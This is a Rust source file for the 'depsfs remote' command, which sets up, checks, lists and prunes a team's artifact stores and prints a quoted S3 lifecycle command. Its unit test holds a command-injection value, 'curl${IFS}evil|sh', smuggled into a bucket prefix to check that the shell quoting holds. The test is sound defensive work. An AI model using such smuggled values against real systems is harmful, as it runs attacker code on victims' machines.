//! `depsfs remote`: the object stores of a team.

use std::path::Path;

use clap::{Args, Subcommand};
use serde_json::json;

use super::answers::{RemoteAnswer, RemoteCheckAnswer, RemoteInitAnswer, RemoteListAnswer, RemotePruneAnswer};
use super::confirm::confirm;
use super::output::{self, count, size};
use super::progress::Bar;
use super::report::Failure;
use super::{approve, places, record};
use crate::component::{Components, load};
use crate::git::checkout::Checkout;
use crate::remote::{Address, OpenRemote, RemoteError, RemoteSpec};
use crate::sys::fs::Timespec;
use crate::sys::interrupt;
use crate::sys::terminal::{DisplayName, shell_word};

const EXAMPLES: &str = "Examples:
  depsfs remote list
  depsfs remote check";

/// Set up, check and list the object stores in which a team shares artifacts
///
/// A remote is a directory or an S3 bucket, or a web server that is only read. A table remote of depsfs.toml names it for all who work on the repository,
/// after depsfs approve; a table remote.NAME of your own config.toml completes it or adds one. depsfs help remote has the
/// keys.
#[derive(Args)]
#[command(after_help = EXAMPLES)]
pub struct RemoteCommand {
    #[command(subcommand)]
    verb: RemoteVerb,
}

#[derive(Subcommand)]
enum RemoteVerb {
    /// Set a remote up, once for the whole team
    Init {
        /// Name of the remote [default: the first one]
        name: Option<String>,
        /// Days for which the remote keeps what was pushed
        #[arg(long, value_name = "DAYS", default_value_t = 90)]
        keep_days: u32,
    },
    /// Test whether a remote can be read and written, and print the rule that deletes old objects
    Check {
        /// Name of the remote [default: the first one]
        name: Option<String>,
    },
    /// List the remotes of this repository
    List,
    /// Delete what is older than the remote keeps, where no rule of the bucket does
    Prune {
        /// Name of the remote [default: the first one]
        name: Option<String>,
        /// Say what would be deleted, and delete nothing
        #[arg(long)]
        dry_run: bool,
    },
}

impl RemoteCommand {
    /// The first words of the message if it fails.
    pub fn failing(&self) -> String {
        match &self.verb {
            RemoteVerb::Init { .. } => "the remote was not set up".into(),
            RemoteVerb::Check { .. } => "the remote cannot be used".into(),
            RemoteVerb::List => "the remotes cannot be listed".into(),
            RemoteVerb::Prune { .. } => "the remote was not pruned".into(),
        }
    }

    /// Runs it.
    ///
    /// # Errors
    /// It was not done, or not all of it.
    pub fn run(self) -> Result<(), Failure> {
        interrupt::catch().map_err(Failure::os("catch signals"))?;
        match self.verb {
            RemoteVerb::Init { name, keep_days } => init(&chosen(name.as_deref())?, keep_days),
            RemoteVerb::Check { name } => check(&chosen(name.as_deref())?),
            RemoteVerb::List => list(),
            RemoteVerb::Prune { name, dry_run } => prune(&chosen(name.as_deref())?, dry_run),
        }
    }
}

/// The remote of this name, else the first one.
///
/// # Errors
/// There is none.
pub fn find<'a>(components: &'a Components, name: Option<&str>) -> Result<&'a RemoteSpec, Failure> {
    match name {
        None => components.remotes.first().ok_or(RemoteError::NoRemote.into()),
        Some(name) => components
            .remotes
            .iter()
            .find(|remote| remote.name == name)
            .ok_or_else(|| RemoteError::UnknownRemote(name.into()).into()),
    }
}

fn configured() -> Result<(Checkout, Components), Failure> {
    let checkout = places::checkout()?;
    let components = load::on_disk(&checkout, &places::user())?;
    Ok((checkout, components))
}

/// As [`find`], of the working directory's checkout; a repository's needs approval.
fn chosen(name: Option<&str>) -> Result<RemoteSpec, Failure> {
    let (checkout, components) = configured()?;
    let spec = find(&components, name)?.clone();
    if !spec.is_users {
        approve::ensure(&components, &checkout.common_dir, false)?;
    }
    Ok(spec)
}

/// The log is that of the user's store.
fn begin_record(verb: &'static str, spec: &RemoteSpec) {
    if let Ok(store) = places::store_path() {
        record::begin(verb, &store);
        record::concerns_name(&spec.shown_url());
    }
}

fn init(spec: &RemoteSpec, keep_days: u32) -> Result<(), Failure> {
    begin_record("remote init", spec);
    let made = OpenRemote::init(spec, keep_days)?;
    if !made {
        record::forget();
    }
    let (name, url) = (spec.name.shown(), spec.shown_url());
    let words = if made { "set up" } else { "was set up before" };
    let answer = RemoteInitAnswer { name: spec.name.clone(), url: url.clone(), was_there: !made };
    let text = || format!("{name} ({}) {words}\n{}", url.shown(), rule(spec, keep_days));
    output::done_answer("the remote was set up", &answer, text)
}

/// The rule by which a bucket deletes old objects.
fn rule(spec: &RemoteSpec, keep_days: u32) -> String {
    match Address::parse(&spec.url) {
        Ok(Address::S3 { bucket, prefix }) => format!(
            "  old:      this rule deletes what is older; remote.json is too small for it, and stays:\n  {}\n",
            lifecycle_command(&bucket, &prefix, keep_days)
        ),
        Ok(Address::Web { .. }) => {
            format!("  old:      what is older than {keep_days} days is deleted in its bucket\n")
        }
        _ => format!("  old:      depsfs remote prune deletes what is older than {keep_days} days\n"),
    }
}

/// The command that gives a bucket this rule, for a shell: the names come from the repository's `depsfs.toml`.
fn lifecycle_command(bucket: &str, prefix: &str, keep_days: u32) -> String {
    let prefix = [prefix, "depsfs/1/"].join("/");
    let filter = json!({"And": {"Prefix": prefix.trim_start_matches('/'), "ObjectSizeGreaterThan": 64}});
    let rule = json!({"ID": "depsfs", "Status": "Enabled", "Filter": filter, "Expiration": {"Days": keep_days}});
    let rules = json!({"Rules": [rule]}).to_string();
    let (bucket, rules) = (shell_word(Path::new(bucket)), shell_word(Path::new(&rules)));
    format!("aws s3api put-bucket-lifecycle-configuration --bucket {bucket} --lifecycle-configuration {rules}")
}

fn check(spec: &RemoteSpec) -> Result<(), Failure> {
    let remote = OpenRemote::open(spec)?;
    let found = remote.check()?;
    let mut lines = format!("{} ({}) can be read\n", spec.name.shown(), spec.shown_url().shown());
    lines += &match &found.not_written {
        None => "  write:    yes, and no object is replaced\n".into(),
        Some(why) => format!("  write:    no: {}\n", why.shown()),
    };
    lines += &format!("  reads:    {}\n", spec.read.join(", "));
    lines += match &spec.signers {
        Some(_) => "  signed:   entries without a signature by an allowed signer are not used\n",
        None => "  signed:   not checked: signers names no file\n",
    };
    lines += &format!("  keeps:    {} days\n{}", found.keep_days, rule(spec, found.keep_days));
    let answer = RemoteCheckAnswer {
        name: spec.name.clone(),
        url: spec.shown_url(),
        writable: found.not_written.is_none(),
        because: found.not_written,
        keep_days: found.keep_days,
        signed: spec.signers.is_some(),
    };
    output::answer(&answer, || lines)
}

fn list() -> Result<(), Failure> {
    let (checkout, components) = configured()?;
    let is_approved = approve::is_given(&components, &checkout.common_dir)?;
    let line = |remote: &RemoteSpec| {
        let whose = match (remote.is_users, is_approved) {
            (true, _) => "your own",
            (false, true) => "of depsfs.toml, approved",
            (false, false) => "of depsfs.toml, not approved: depsfs approve",
        };
        format!("{}  {}  ({whose})\n", remote.name.shown(), remote.shown_url().shown())
    };
    let row = |remote: &RemoteSpec| RemoteAnswer {
        name: remote.name.clone(),
        url: remote.shown_url(),
        own: remote.is_users,
        approved: remote.is_users || is_approved,
    };
    let answer = RemoteListAnswer { remotes: components.remotes.iter().map(row).collect() };
    output::answer(&answer, || match components.remotes.is_empty() {
        true => "no remote is configured\n".into(),
        false => components.remotes.iter().map(line).collect(),
    })
}

fn prune(spec: &RemoteSpec, dry_run: bool) -> Result<(), Failure> {
    let remote = OpenRemote::open(spec)?;
    let bar = Bar::new();
    let old = remote.prune(true, Timespec::now(), &bar)?;
    let words = format!("{}, {}", count(old.objects, "object"), size(old.bytes));
    if dry_run {
        let answer = RemotePruneAnswer { dry_run, objects: old.objects, bytes: old.bytes };
        return output::answer(&answer, || format!("{}  deletes:  {words}\n", output::DRY_RUN));
    }
    if old.objects > 0 && !confirm(&format!("Delete {words} of {}?", spec.name.shown()))? {
        return Err(Failure::Declined);
    }
    begin_record("remote prune", spec);
    let pruned = remote.prune(false, Timespec::now(), &bar)?;
    drop(bar);
    record::detail(format!("deleted {}, {}", count(pruned.objects, "object"), size(pruned.bytes)));
    let answer = RemotePruneAnswer { dry_run, objects: pruned.objects, bytes: pruned.bytes };
    let text = || format!("deleted {}, {}\n", count(pruned.objects, "object"), size(pruned.bytes));
    output::done_answer("the remote was pruned", &answer, text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_rule_of_a_bucket_is_json_in_one_word_of_a_shell() {
        let filter = r#"{"And":{"ObjectSizeGreaterThan":64,"Prefix":"a/depsfs/1/"}}"#;
        let rule = format!(r#"{{"Expiration":{{"Days":90}},"Filter":{filter},"ID":"depsfs","Status":"Enabled"}}"#);
        let spec = |url: &str| RemoteSpec { url: url.into(), ..RemoteSpec::default() };
        let text = super::rule(&spec("s3://b/a/"), 90);
        let word = format!("--bucket b --lifecycle-configuration '{{\"Rules\":[{rule}]}}'\n");
        assert!(text.ends_with(&word), "{text} is without {word}");
        let hostile = lifecycle_command("b;id", "x';curl${IFS}evil|sh;'\"", 90);
        assert!(hostile.contains("--bucket 'b;id' ") && hostile.contains(r#"x'\'';curl${IFS}evil|sh;'\''\"/depsfs"#));
        assert!(super::rule(&spec("https://h/x"), 90).contains("deleted in its bucket"));
        assert!(super::rule(&spec("file:///srv/x"), 90).contains("depsfs remote prune"));
    }
}
